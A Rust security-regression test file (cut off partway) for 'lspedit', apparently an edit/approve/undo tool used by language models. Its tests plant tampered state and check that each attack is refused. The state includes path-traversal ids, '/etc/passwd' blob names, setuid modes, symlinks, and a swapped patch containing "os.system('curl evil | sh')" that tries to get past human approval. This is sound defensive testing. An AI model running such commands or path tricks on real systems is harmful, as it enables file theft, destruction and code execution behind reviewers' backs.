//! State under `.lspedit/` written by someone else (a model that writes files, a cloned
//! repository): each attack of the security review, replayed. The workflow must refuse it
//! (`tampered_state`, `checkpoint_not_found`, ...) and never act outside the workspace: every
//! test keeps a canary in a sibling directory and checks it survives.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use lspedit_tools::{Tools, ToolsConfig};
use lspedit_workflow::{
    ApplyPlan, ApplyStatus, Atomicity, ProposeRequest, Workflow, WorkflowConfig,
};
use lspedit_workflow::{ApprovalRequest, Callback};
use lspedit_write::{Reason, ToolError, Workspace, base_sha};
use serde_json::Value;

const CANARY: &str = "canary: must survive\n";

/// A workspace `<tmp>/ws` beside `<tmp>/outside/canary`.
struct Env {
    _tmp: tempfile::TempDir,
    root: PathBuf,
    outside: PathBuf,
}

impl Env {
    fn new(files: &[(&str, &str)]) -> Env {
        let tmp = tempfile::tempdir().unwrap();
        let base = std::fs::canonicalize(tmp.path()).unwrap();
        let root = base.join("ws");
        let outside = base.join("outside");
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::write(outside.join("canary"), CANARY).unwrap();
        for (rel, content) in files {
            let p = root.join(rel);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, content).unwrap();
        }
        std::fs::create_dir_all(&root).unwrap();
        Env {
            _tmp: tmp,
            root,
            outside,
        }
    }

    fn open_with(&self, cfg: WorkflowConfig) -> Result<Workflow, ToolError> {
        let tools = Arc::new(Tools::new(
            Workspace::open(&self.root).unwrap(),
            None,
            ToolsConfig::default(),
        ));
        Workflow::open(tools, cfg)
    }

    /// A workflow that logs no events: `events.jsonl` is the event log's own business, and
    /// these tests check that the workflow itself writes nothing outside.
    fn open(&self) -> Workflow {
        self.open_with(WorkflowConfig {
            event_log: false,
            ..WorkflowConfig::unrestricted()
        })
        .unwrap()
    }

    fn read(&self, rel: &str) -> String {
        std::fs::read_to_string(self.root.join(rel)).unwrap()
    }

    /// The sibling directory still holds exactly the canary.
    fn assert_outside_untouched(&self) {
        let names: Vec<String> = std::fs::read_dir(&self.outside)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        assert_eq!(names, ["canary"], "something was written outside");
        assert_eq!(
            std::fs::read_to_string(self.outside.join("canary")).unwrap(),
            CANARY
        );
    }

    fn checkpoint_json(&self, id: &str) -> PathBuf {
        self.root
            .join(".lspedit/checkpoints")
            .join(id)
            .join("checkpoint.json")
    }

    fn patch_json(&self, id: &str) -> PathBuf {
        self.root
            .join(".lspedit/patches")
            .join(format!("{id}.json"))
    }
}

fn replace_diff(path: &str, from: &str, to: &str) -> String {
    format!("--- a/{path}\n+++ b/{path}\n@@ -1,3 +1,3 @@\n a\n-{from}\n+{to}\n c\n")
}

fn edit_json(path: &Path, f: impl FnOnce(&mut Value)) {
    let mut v: Value = serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
    f(&mut v);
    std::fs::write(path, serde_json::to_vec_pretty(&v).unwrap()).unwrap();
}

/// Propose and apply `b` → `B` in `a.txt`; the checkpoint id.
/// An apply refused as `tampered_state`, its text naming each of `mentions`.
fn assert_tampered(out: &lspedit_workflow::ApplyOutcome, mentions: &[&str]) {
    assert_eq!(out.status, ApplyStatus::Refused, "{}", out.llm_content);
    assert_eq!(
        out.reason,
        Some(Reason::TamperedState),
        "{}",
        out.llm_content
    );
    for m in mentions {
        assert!(out.llm_content.contains(m), "{m}: {}", out.llm_content);
    }
}

fn applied_checkpoint(e: &Env, wf: &Workflow) -> String {
    let p = wf
        .propose_edit(&ProposeRequest::patch(replace_diff("a.txt", "b", "B")))
        .unwrap();
    let out = wf.apply_edit(&p.patch_id, &ApplyPlan::default());
    assert_eq!(out.status, ApplyStatus::Applied, "{}", out.llm_content);
    assert_eq!(e.read("a.txt"), "a\nB\nc\n");
    out.checkpoint_id.unwrap()
}

// Regression: undo removed `checkpoints/<checkpoint_id from the JSON>` after restoring, so a
// checkpoint naming itself "../../../outside" deleted a directory outside the root. (An apply
// that only creates a file has no blob to read, so nothing else stopped the undo.)
#[test]
fn a_checkpoint_id_that_is_a_path_is_refused() {
    let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
    let wf = e.open();
    let attacks = [
        "../../../outside".to_string(),
        e.outside.to_string_lossy().into_owned(),
    ];
    for attack in attacks {
        let p = wf
            .propose_edit(&ProposeRequest::patch(
                "*** Begin Patch\n*** Add File: made.txt\n+made\n*** End Patch\n",
            ))
            .unwrap();
        let out = wf.apply_edit(&p.patch_id, &ApplyPlan::default());
        assert_eq!(out.status, ApplyStatus::Applied, "{}", out.llm_content);
        let ckpt = out.checkpoint_id.unwrap();
        edit_json(&e.checkpoint_json(&ckpt), |v| {
            v["checkpoint_id"] = Value::from(attack.clone());
        });
        let err = wf.undo(&ckpt).unwrap_err();
        assert_eq!(err.reason, Reason::TamperedState, "{err}");
        assert!(err.to_string().contains("checkpoint.json"), "{err}");
        e.assert_outside_untouched();
        assert_eq!(e.read("made.txt"), "made\n", "nothing is restored");
        // Undo by hand for the next round.
        std::fs::remove_file(e.root.join("made.txt")).unwrap();
    }
    // Given by the caller, such an id is unknown and never becomes a path.
    for id in [
        "../../../outside",
        e.outside.to_str().unwrap(),
        "ckpt_1_abc/../x",
    ] {
        let err = wf.undo(id).unwrap_err();
        assert_eq!(err.reason, Reason::CheckpointNotFound, "{err}");
    }
    e.assert_outside_untouched();
}

#[test]
fn an_unknown_checkpoint_is_checkpoint_not_found() {
    let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
    let wf = e.open();
    let err = wf
        .undo("ckpt_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef")
        .unwrap_err();
    assert_eq!(err.reason, Reason::CheckpointNotFound, "{err}");
    assert!(err.message.contains("not found"), "{err}");
    assert!(!e.root.join(".lspedit").exists(), "undo created state");
}

// Regression: the blob name was joined to `blobs/` as given, so "/etc/passwd" or a `..` path
// copied any readable file into the workspace.
#[test]
fn a_blob_name_that_is_a_path_is_refused_and_not_copied() {
    let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
    let wf = e.open();
    for blob in [
        "/etc/passwd".to_string(),
        e.outside.join("canary").to_string_lossy().into_owned(),
        "../../../../outside/canary".to_string(),
        "../x".to_string(),
    ] {
        let ckpt = applied_checkpoint(&e, &wf);
        let dir = e.checkpoint_json(&ckpt).parent().unwrap().to_path_buf();
        std::fs::write(dir.join("x"), "not a blob\n").unwrap();
        edit_json(&e.checkpoint_json(&ckpt), |v| {
            v["entries"][0]["blob"] = Value::from(blob.clone());
        });
        let err = wf.undo(&ckpt).unwrap_err();
        assert_eq!(err.reason, Reason::TamperedState, "{blob}: {err}");
        assert_eq!(e.read("a.txt"), "a\nB\nc\n", "{blob} was copied in");
        std::fs::write(e.root.join("a.txt"), "a\nb\nc\n").unwrap();
    }
    e.assert_outside_untouched();
}

#[test]
fn a_blob_whose_content_is_not_the_recorded_one_is_refused() {
    let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
    let wf = e.open();
    let ckpt = applied_checkpoint(&e, &wf);
    let v: Value =
        serde_json::from_slice(&std::fs::read(e.checkpoint_json(&ckpt)).unwrap()).unwrap();
    let blob = v["entries"][0]["blob"].as_str().unwrap().to_string();
    let blob_path = e.checkpoint_json(&ckpt).with_file_name("blobs").join(blob);
    // The blob may be a hard link to the old file: replace it, never write through it.
    std::fs::remove_file(&blob_path).unwrap();
    std::fs::write(&blob_path, "planted\n").unwrap();
    let err = wf.undo(&ckpt).unwrap_err();
    assert_eq!(err.reason, Reason::TamperedState, "{err}");
    assert_eq!(e.read("a.txt"), "a\nB\nc\n");
}

// Regression: the stored mode was applied as is, so 0o4755 made a setuid file.
// A mode planted in a checkpoint (setuid on undo) no longer gets as far as the mask that keeps
// permission bits only: the checkpoint's signature covers it.
#[test]
fn a_stored_mode_changed_in_a_checkpoint_is_refused() {
    let e = Env::new(&[("gone.sh", "#!/bin/sh\necho hi\n")]);
    std::fs::set_permissions(
        e.root.join("gone.sh"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    let wf = e.open();
    let p = wf
        .propose_edit(&ProposeRequest::patch(
            "*** Begin Patch\n*** Delete File: gone.sh\n*** End Patch\n",
        ))
        .unwrap();
    let out = wf.apply_edit(&p.patch_id, &ApplyPlan::default());
    assert_eq!(out.status, ApplyStatus::Applied, "{}", out.llm_content);
    let ckpt = out.checkpoint_id.unwrap();
    edit_json(&e.checkpoint_json(&ckpt), |v| {
        v["entries"][0]["mode"] = Value::from(0o6755);
    });
    let err = wf.undo(&ckpt).unwrap_err();
    assert_eq!(err.reason, Reason::TamperedState, "{err}");
    assert!(!e.root.join("gone.sh").exists(), "nothing restored");
    e.assert_outside_untouched();
}

#[test]
fn a_checkpoint_path_outside_or_in_protected_state_is_refused() {
    let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
    let wf = e.open();
    for path in [
        "../outside/canary".to_string(),
        e.outside.join("canary").to_string_lossy().into_owned(),
        ".git/config".to_string(),
        "sub/.hg/hgrc".to_string(),
        ".lspedit/lock".to_string(),
    ] {
        let ckpt = applied_checkpoint(&e, &wf);
        edit_json(&e.checkpoint_json(&ckpt), |v| {
            v["entries"][0]["path"] = Value::from(path.clone());
        });
        let err = wf.undo(&ckpt).unwrap_err();
        assert_eq!(err.reason, Reason::TamperedState, "{path}: {err}");
        std::fs::write(e.root.join("a.txt"), "a\nb\nc\n").unwrap();
    }
    assert!(!e.root.join(".git").exists());
    e.assert_outside_untouched();
}

#[test]
fn a_malformed_checkpoint_or_patch_is_tampered_state_naming_the_file() {
    let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
    let wf = e.open();
    let ckpt = applied_checkpoint(&e, &wf);
    std::fs::write(e.checkpoint_json(&ckpt), "{\"checkpoint_id\": 3").unwrap();
    let err = wf.undo(&ckpt).unwrap_err();
    assert_eq!(err.reason, Reason::TamperedState, "{err}");
    assert_eq!(
        err.path.as_deref(),
        Some(format!(".lspedit/checkpoints/{ckpt}/checkpoint.json").as_str())
    );

    let p = wf
        .propose_edit(&ProposeRequest::patch(replace_diff("a.txt", "B", "C")))
        .unwrap();
    std::fs::write(e.patch_json(&p.patch_id), "[1, 2").unwrap();
    let out = wf.apply_edit(&p.patch_id, &ApplyPlan::default());
    assert_tampered(&out, &[&format!("{}.json", p.patch_id)]);
    assert_eq!(e.read("a.txt"), "a\nB\nc\n");
}

// Regression: recovery removed every `tmp` a journal named, so a planted journal made the next
// propose_edit delete any file the user could.
#[test]
fn a_journal_temp_path_that_is_not_its_entrys_temp_file_is_left_alone() {
    let e = Env::new(&[("a.txt", "a\nb\nc\n"), ("b.txt", "keep me\n")]);
    let wf = e.open();
    let ckpt = applied_checkpoint(&e, &wf);
    let staged = e.root.join(".a.txt.lspedit-1-7.tmp");
    std::fs::write(&staged, "a staged temp file\n").unwrap();
    let canary = e.outside.join("canary");
    let journal = serde_json::json!({
        "txn_id": "txn_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef",
        "patch_id": "patch_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef",
        "checkpoint_id": ckpt,
        "created_ms": 1_700_000_000_000_u64,
        "pid": 1,
        "entries": [
            { "path": "a.txt", "old_sha": base_sha(b"a\nb\nc\n"), "new_sha": base_sha(b"a\nB\nc\n"), "tmp": canary },
            { "path": "a.txt", "old_sha": base_sha(b"a\nb\nc\n"), "new_sha": base_sha(b"a\nB\nc\n"), "tmp": "../outside/canary" },
            { "path": "a.txt", "old_sha": base_sha(b"a\nb\nc\n"), "new_sha": base_sha(b"a\nB\nc\n"), "tmp": "b.txt" },
            { "path": "a.txt", "old_sha": base_sha(b"a\nb\nc\n"), "new_sha": base_sha(b"a\nB\nc\n"), "tmp": ".a.txt.lspedit-1-7.tmp" },
        ],
    });
    let dir = e.root.join(".lspedit/journal");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("txn_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef.json"),
        serde_json::to_vec(&journal).unwrap(),
    )
    .unwrap();

    // Recovery runs before the next propose.
    wf.propose_edit(&ProposeRequest::patch(replace_diff("b.txt", "x", "y")))
        .ok();
    e.assert_outside_untouched();
    assert_eq!(e.read("b.txt"), "keep me\n");
    assert!(!staged.exists(), "the entry's own temp file is removed");
    let rec = wf.recovered();
    assert_eq!(rec.len(), 1, "{rec:?}");
    assert_eq!(
        rec[0].refused_tmps,
        [
            canary.to_string_lossy().into_owned(),
            "../outside/canary".to_string(),
            "b.txt".to_string()
        ]
    );
    // The rest of the journal was valid: the commit it describes was rolled back.
    assert_eq!(rec[0].restored, ["a.txt"]);
    assert_eq!(e.read("a.txt"), "a\nb\nc\n");
}

#[test]
fn a_journal_with_bad_ids_is_kept_and_not_acted_on() {
    let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
    let wf = e.open();
    let ckpt = applied_checkpoint(&e, &wf);
    let journal = serde_json::json!({
        "txn_id": "txn_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef",
        "patch_id": "patch_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef",
        "checkpoint_id": "../../../outside",
        "created_ms": 1_700_000_000_000_u64,
        "pid": 1,
        "entries": [
            { "path": "a.txt", "old_sha": base_sha(b"a\nb\nc\n"), "new_sha": base_sha(b"a\nB\nc\n"), "tmp": null },
        ],
    });
    let dir = e.root.join(".lspedit/journal");
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("txn_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef.json");
    std::fs::write(&file, serde_json::to_vec(&journal).unwrap()).unwrap();
    let wf2 = e.open();
    assert!(wf2.recovered().is_empty());
    assert!(file.exists(), "kept for inspection");
    assert_eq!(e.read("a.txt"), "a\nB\nc\n");
    e.assert_outside_untouched();
    // The real checkpoint is untouched and still undoes the apply.
    wf2.undo(&ckpt).unwrap();
    assert_eq!(e.read("a.txt"), "a\nb\nc\n");
}

// Regression: apply-id applied the stored `patch_text` while the reviewer saw the stored `diff`,
// so editing the patch text (and the shas it plans to) after review bypassed the approval.
#[test]
fn a_proposal_whose_patch_text_changed_is_refused() {
    let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
    let asked: Arc<Mutex<Vec<String>>> = Arc::default();
    let asked2 = Arc::clone(&asked);
    let wf = e
        .open_with(WorkflowConfig {
            event_log: false,
            ..WorkflowConfig::unrestricted().asking(Arc::new(Callback(
                move |req: &ApprovalRequest<'_>| {
                    asked2.lock().unwrap().push(req.diff.to_string());
                    true
                },
            )))
        })
        .unwrap();
    let p = wf
        .propose_edit(&ProposeRequest::patch(replace_diff("a.txt", "b", "B")))
        .unwrap();
    assert!(p.diff.contains("+B"), "{}", p.diff);
    let evil = replace_diff("a.txt", "b", "EVIL");
    edit_json(&e.patch_json(&p.patch_id), |v| {
        v["patch_text"] = Value::from(evil.clone());
        v["files"][0]["new_sha"] = Value::from(base_sha(b"a\nEVIL\nc\n"));
        if v.get("diff").is_none() {
            v["diff"] = Value::from(p.diff.clone());
        }
    });
    for plan in [
        ApplyPlan::default(),
        ApplyPlan {
            atomicity: Atomicity::AllOrNothing,
            ..ApplyPlan::default()
        },
    ] {
        let out = wf.apply_edit(&p.patch_id, &plan);
        assert_tampered(&out, &["does not match its id", "propose_edit again"]);
        assert_eq!(e.read("a.txt"), "a\nb\nc\n");
    }
    assert!(asked.lock().unwrap().is_empty(), "the approver was asked");
    assert_eq!(
        wf.proposal(&p.patch_id).unwrap_err().reason,
        Reason::TamperedState
    );
}

#[test]
fn the_approver_sees_the_diff_planned_from_the_patch_text() {
    let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
    let asked: Arc<Mutex<Vec<String>>> = Arc::default();
    let asked2 = Arc::clone(&asked);
    let wf = e
        .open_with(WorkflowConfig {
            event_log: false,
            ..WorkflowConfig::unrestricted().asking(Arc::new(Callback(
                move |req: &ApprovalRequest<'_>| {
                    asked2.lock().unwrap().push(req.diff.to_string());
                    false
                },
            )))
        })
        .unwrap();
    let p = wf
        .propose_edit(&ProposeRequest::patch(replace_diff("a.txt", "b", "B")))
        .unwrap();
    // A `diff` field planted in the store is not what anyone is shown.
    edit_json(&e.patch_json(&p.patch_id), |v| {
        v["diff"] = Value::from("--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-harmless\n+harmless\n");
    });
    let out = wf.apply_edit(&p.patch_id, &ApplyPlan::default());
    assert_eq!(out.status, ApplyStatus::Rejected);
    assert_eq!(*asked.lock().unwrap(), std::slice::from_ref(&p.diff));
    assert_eq!(wf.proposal(&p.patch_id).unwrap().diff, p.diff);
}

#[test]
fn an_unknown_patch_id_says_to_propose_again() {
    let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
    let wf = e.open();
    for id in [
        "patch_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef",
        "../../outside/x",
        "/etc/passwd",
    ] {
        let out = wf.apply_edit(id, &ApplyPlan::default());
        assert_eq!(out.reason, Some(Reason::PatchNotFound));
        assert!(
            out.llm_content.contains("propose_edit again"),
            "{}",
            out.llm_content
        );
    }
    assert!(!e.root.join(".lspedit").exists());
}

#[test]
fn lspedit_as_a_symlink_is_refused_and_nothing_is_written_outside() {
    let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
    std::os::unix::fs::symlink(&e.outside, e.root.join(".lspedit")).unwrap();
    // At open, before the event log could write through it.
    let err = e
        .open_with(WorkflowConfig::unrestricted())
        .expect_err("open refused");
    assert_eq!(err.reason, Reason::TamperedState, "{err}");
    assert_eq!(err.path.as_deref(), Some(".lspedit"));
    e.assert_outside_untouched();

    // Planted after the workflow was opened: every operation refuses.
    std::fs::remove_file(e.root.join(".lspedit")).unwrap();
    let wf = e.open();
    std::os::unix::fs::symlink(&e.outside, e.root.join(".lspedit")).unwrap();
    let err = wf
        .propose_edit(&ProposeRequest::patch(replace_diff("a.txt", "b", "B")))
        .unwrap_err();
    assert_eq!(err.reason, Reason::TamperedState, "{err}");
    let out = wf.apply_edit(
        "patch_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef",
        &ApplyPlan::default(),
    );
    assert_tampered(&out, &[]);
    let err = wf
        .undo("ckpt_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef")
        .unwrap_err();
    assert_eq!(err.reason, Reason::TamperedState, "{err}");
    e.assert_outside_untouched();
    assert_eq!(e.read("a.txt"), "a\nb\nc\n");
}

#[test]
fn a_state_directory_or_the_lock_as_a_symlink_is_refused() {
    for entry in ["patches", "checkpoints", "journal", "evidence", "lock"] {
        let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
        let wf = e.open();
        std::fs::create_dir_all(e.root.join(".lspedit")).unwrap();
        let target = if entry == "lock" {
            e.outside.join("canary")
        } else {
            e.outside.clone()
        };
        std::os::unix::fs::symlink(&target, e.root.join(".lspedit").join(entry)).unwrap();
        let err = wf
            .propose_edit(&ProposeRequest::patch(replace_diff("a.txt", "b", "B")))
            .unwrap_err();
        assert_eq!(err.reason, Reason::TamperedState, "{entry}: {err}");
        assert_eq!(
            err.path.as_deref(),
            Some(format!(".lspedit/{entry}").as_str())
        );
        e.assert_outside_untouched();
    }
}

// The checkpoint directory itself, or its blob, as a symlink: never followed.
#[test]
fn a_checkpoint_or_blob_symlink_is_refused() {
    let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
    let wf = e.open();
    let ckpt = applied_checkpoint(&e, &wf);
    let json = e.checkpoint_json(&ckpt);
    let v: Value = serde_json::from_slice(&std::fs::read(&json).unwrap()).unwrap();
    let blob = json
        .with_file_name("blobs")
        .join(v["entries"][0]["blob"].as_str().unwrap());
    // A blob pointing at a file with the recorded content is still refused: it is a link.
    std::fs::write(e.outside.join("old"), "a\nb\nc\n").unwrap();
    std::fs::remove_file(&blob).unwrap();
    std::os::unix::fs::symlink(e.outside.join("old"), &blob).unwrap();
    let err = wf.undo(&ckpt).unwrap_err();
    assert_eq!(err.reason, Reason::TamperedState, "{err}");
    assert_eq!(e.read("a.txt"), "a\nB\nc\n");
    std::fs::remove_file(e.outside.join("old")).unwrap();

    // The whole checkpoint directory as a link to a copy elsewhere.
    let dir = json.parent().unwrap().to_path_buf();
    let copy = e.outside.join("copy");
    std::fs::rename(&dir, &copy).unwrap();
    std::os::unix::fs::symlink(&copy, &dir).unwrap();
    let err = wf.undo(&ckpt).unwrap_err();
    assert_eq!(err.reason, Reason::TamperedState, "{err}");
    assert!(copy.join("checkpoint.json").exists());
    std::fs::remove_file(&dir).unwrap();
    std::fs::remove_dir_all(&copy).unwrap();
    e.assert_outside_untouched();
}

// Fields of a stored proposal that its id does not cover are checked one by one: each planted
// value is refused as `tampered_state` naming what is wrong, before the approver or the files.
#[test]
fn each_unhashed_field_of_a_stored_proposal_is_verified() {
    // check(edit, message fragment)
    let check = |edit: &dyn Fn(&mut Value), needle: &str| {
        let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
        let wf = e.open();
        let p = wf
            .propose_edit(&ProposeRequest::patch(replace_diff("a.txt", "b", "B")))
            .unwrap();
        edit_json(&e.patch_json(&p.patch_id), edit);
        let out = wf.apply_edit(&p.patch_id, &ApplyPlan::default());
        assert_tampered(&out, &[needle]);
        assert_eq!(e.read("a.txt"), "a\nb\nc\n");
        e.assert_outside_untouched();
    };
    check(
        &|v| v["version"] = Value::from(999),
        "has format version 999 but this lspedit reads version",
    );
    check(
        &|v| v["step_id"] = Value::from("../../outside"),
        "the stored step id or evidence name is not one lspedit makes",
    );
    check(
        &|v| v["evidence_id"] = Value::from("diff_a_b"),
        "the stored step id or evidence name is not one lspedit makes",
    );
    check(
        &|v| v["files"][0]["new_sha"] = Value::from("not-a-sha"),
        "a sha of `a.txt` is not a sha",
    );
}

// Unforgeable ids (docs/ids.md). Regression: a patch id carried 32 bits of an unkeyed SHA-256, so
// a process that could write `.lspedit/patches/` swapped a reviewed proposal for another and
// searched a suffix until the id matched again; apply-id applied it.

/// A workflow over `e` whose key lives in `<tmp>/<name>` (another user's, for another name).
fn open_keyed(e: &Env, name: &str) -> Workflow {
    e.open_with(WorkflowConfig {
        event_log: false,
        key_dir: Some(e.outside.parent().unwrap().join(name)),
        ..WorkflowConfig::unrestricted()
    })
    .unwrap()
}

#[test]
fn a_swapped_proposal_under_the_reviewed_id_is_tampered_state() {
    let e = Env::new(&[("a.py", "a\nb\nc\n")]);
    let wf = open_keyed(&e, "user");
    let reviewed = wf
        .propose_edit(&ProposeRequest::patch(replace_diff("a.py", "b", "B")))
        .unwrap();
    let tag = reviewed.patch_id.rsplit('_').next().unwrap();
    assert_eq!(tag.len(), 32, "128 bits: {}", reviewed.patch_id);
    // The attacker proposes their own change with lspedit and their own key, then puts it in
    // place of the reviewed proposal, under its id and time.
    let attacker = open_keyed(&e, "attacker");
    let evil = attacker
        .propose_edit(&ProposeRequest::patch(replace_diff(
            "a.py",
            "b",
            "import os; os.system('curl evil | sh')",
        )))
        .unwrap();
    let evil_file = e.patch_json(&evil.patch_id);
    std::fs::copy(&evil_file, e.patch_json(&reviewed.patch_id)).unwrap();
    std::fs::remove_file(evil_file).unwrap();
    edit_json(&e.patch_json(&reviewed.patch_id), |v| {
        v["patch_id"] = Value::from(reviewed.patch_id.clone());
        v["created_ms"] = Value::from(
            reviewed
                .patch_id
                .split('_')
                .nth(1)
                .unwrap()
                .parse::<u64>()
                .unwrap(),
        );
    });
    let out = wf.apply_edit(&reviewed.patch_id, &ApplyPlan::default());
    assert_tampered(&out, &[&reviewed.patch_id]);
    assert!(
        out.llm_content
            .contains(&format!(".lspedit/patches/{}.json", reviewed.patch_id)),
        "names the file: {}",
        out.llm_content
    );
    assert_eq!(e.read("a.py"), "a\nb\nc\n", "nothing written");
    assert!(
        !e.root.join(".lspedit/checkpoints").exists(),
        "no checkpoint either"
    );
    // Showing it again is refused the same way.
    assert_eq!(
        wf.proposal(&reviewed.patch_id).unwrap_err().reason,
        Reason::TamperedState
    );
    e.assert_outside_untouched();
}

#[test]
fn an_id_of_fewer_bits_is_refused() {
    let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
    let wf = open_keyed(&e, "user");
    let p = wf
        .propose_edit(&ProposeRequest::patch(replace_diff("a.txt", "b", "B")))
        .unwrap();
    let (head, tag) = p.patch_id.rsplit_once('_').unwrap();
    // The proposal stored under the 32-bit id of the old format too: still no id.
    for short in [&tag[..8], &tag[..16], &tag[..31]] {
        let id = format!("{head}_{short}");
        std::fs::copy(e.patch_json(&p.patch_id), e.patch_json(&id)).unwrap();
        edit_json(&e.patch_json(&id), |v| {
            v["patch_id"] = Value::from(id.clone())
        });
        let out = wf.apply_edit(&id, &ApplyPlan::default());
        assert_eq!(out.status, ApplyStatus::Refused, "{}", out.llm_content);
        assert_eq!(
            out.reason,
            Some(Reason::PatchNotFound),
            "{}",
            out.llm_content
        );
        assert!(
            out.llm_content
                .contains(&format!("carries {} bits", short.len() * 4))
                && out.llm_content.contains("propose_edit again"),
            "{}",
            out.llm_content
        );
        assert_eq!(e.read("a.txt"), "a\nb\nc\n");
    }
    let err = wf
        .undo(&format!("ckpt_{}_{}", &head["patch_".len()..], &tag[..8]))
        .unwrap_err();
    assert_eq!(err.reason, Reason::CheckpointNotFound, "{err}");
}

#[test]
fn a_key_from_another_user_dir_does_not_validate() {
    let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
    let mine = open_keyed(&e, "user");
    let theirs = open_keyed(&e, "other");
    let p = mine
        .propose_edit(&ProposeRequest::patch(replace_diff("a.txt", "b", "B")))
        .unwrap();
    let out = theirs.apply_edit(&p.patch_id, &ApplyPlan::default());
    assert_tampered(&out, &[]);
    assert_eq!(e.read("a.txt"), "a\nb\nc\n");
    // Under the key it was signed with, it applies; its checkpoint undoes only under that key.
    let out = mine.apply_edit(&p.patch_id, &ApplyPlan::default());
    assert_eq!(out.status, ApplyStatus::Applied, "{}", out.llm_content);
    let ckpt = out.checkpoint_id.unwrap();
    assert_eq!(ckpt.rsplit('_').next().unwrap().len(), 32, "{ckpt}");
    let err = theirs.undo(&ckpt).unwrap_err();
    assert_eq!(err.reason, Reason::TamperedState, "{err}");
    assert_eq!(e.read("a.txt"), "a\nB\nc\n", "nothing restored");
    mine.undo(&ckpt).unwrap();
    assert_eq!(e.read("a.txt"), "a\nb\nc\n");
    e.assert_outside_untouched();
}

#[test]
fn a_swapped_checkpoint_is_refused_on_undo() {
    let e = Env::new(&[("a.txt", "a\nb\nc\n"), ("b.txt", "a\nb\nc\n")]);
    let wf = e.open();
    let first = applied_checkpoint(&e, &wf);
    let p = wf
        .propose_edit(&ProposeRequest::patch(replace_diff("b.txt", "b", "B")))
        .unwrap();
    let second = wf
        .apply_edit(&p.patch_id, &ApplyPlan::default())
        .checkpoint_id
        .unwrap();
    // The second checkpoint, blobs and all, put in place of the first under the first's id.
    let dir = |id: &str| e.root.join(".lspedit/checkpoints").join(id);
    std::fs::remove_dir_all(dir(&first)).unwrap();
    std::fs::rename(dir(&second), dir(&first)).unwrap();
    edit_json(&e.checkpoint_json(&first), |v| {
        v["checkpoint_id"] = Value::from(first.clone());
    });
    let err = wf.undo(&first).unwrap_err();
    assert_eq!(err.reason, Reason::TamperedState, "{err}");
    assert!(err.message.contains(&first), "{err}");
    assert_eq!(
        err.path.as_deref(),
        Some(format!(".lspedit/checkpoints/{first}/checkpoint.json").as_str())
    );
    assert_eq!(e.read("a.txt"), "a\nB\nc\n", "nothing restored");
    assert_eq!(e.read("b.txt"), "a\nB\nc\n", "nothing restored");
    e.assert_outside_untouched();
}

// Regression: a refused file's reason was stored as a free string and read back with a
// fallback, so a planted code became `io_error` (or whatever the fallback was) instead of a
// refusal. It is now a typed reason stored as its code; an unknown code is not lspedit's.
#[test]
fn a_stored_file_problem_with_an_unknown_reason_is_tampered_state() {
    let e = Env::new(&[("a.txt", "a\nb\nc\n"), ("c.txt", "a\nb\nc\n")]);
    let wf = e.open();
    let patch = replace_diff("a.txt", "b", "B") + &replace_diff("c.txt", "not there", "X");
    let p = wf.propose_edit(&ProposeRequest::patch(patch)).unwrap();
    // Stored exactly as before the reason was typed: the bare code.
    let stored = std::fs::read_to_string(e.patch_json(&p.patch_id)).unwrap();
    assert!(stored.contains(r#""reason": "hunk_mismatch""#), "{stored}");
    edit_json(&e.patch_json(&p.patch_id), |v| {
        v["files"][1]["problem"]["reason"] = Value::from("made_up");
    });
    let plan = ApplyPlan {
        atomicity: Atomicity::PerFile,
        ..ApplyPlan::default()
    };
    let out = wf.apply_edit(&p.patch_id, &plan);
    assert_tampered(
        &out,
        &[&format!(".lspedit/patches/{}.json", p.patch_id), "made_up"],
    );
    assert_eq!(e.read("a.txt"), "a\nb\nc\n", "nothing written");
    assert_eq!(
        wf.proposal(&p.patch_id).unwrap_err().reason,
        Reason::TamperedState
    );
    e.assert_outside_untouched();
}

// Ids bound to their workspace (docs/ids.md). Regression (issue 44): the key is the person's,
// not the workspace's, so a proposal or a checkpoint copied from one of their workspaces into
// another's `.lspedit/` verified there, and applied or restored.

/// Workspaces `<tmp>/a` and `<tmp>/b` holding the same files, and one key directory
/// `<tmp>/key` (one person) for both.
struct Two {
    _tmp: tempfile::TempDir,
    base: PathBuf,
}

impl Two {
    fn new(files: &[(&str, &str)]) -> Two {
        let tmp = tempfile::tempdir().unwrap();
        let base = std::fs::canonicalize(tmp.path()).unwrap();
        for ws in ["a", "b"] {
            std::fs::create_dir(base.join(ws)).unwrap();
            for (rel, content) in files {
                std::fs::write(base.join(ws).join(rel), content).unwrap();
            }
        }
        Two { _tmp: tmp, base }
    }

    fn root(&self, ws: &str) -> PathBuf {
        self.base.join(ws)
    }

    /// A workflow over `<tmp>/<ws>` under the shared key.
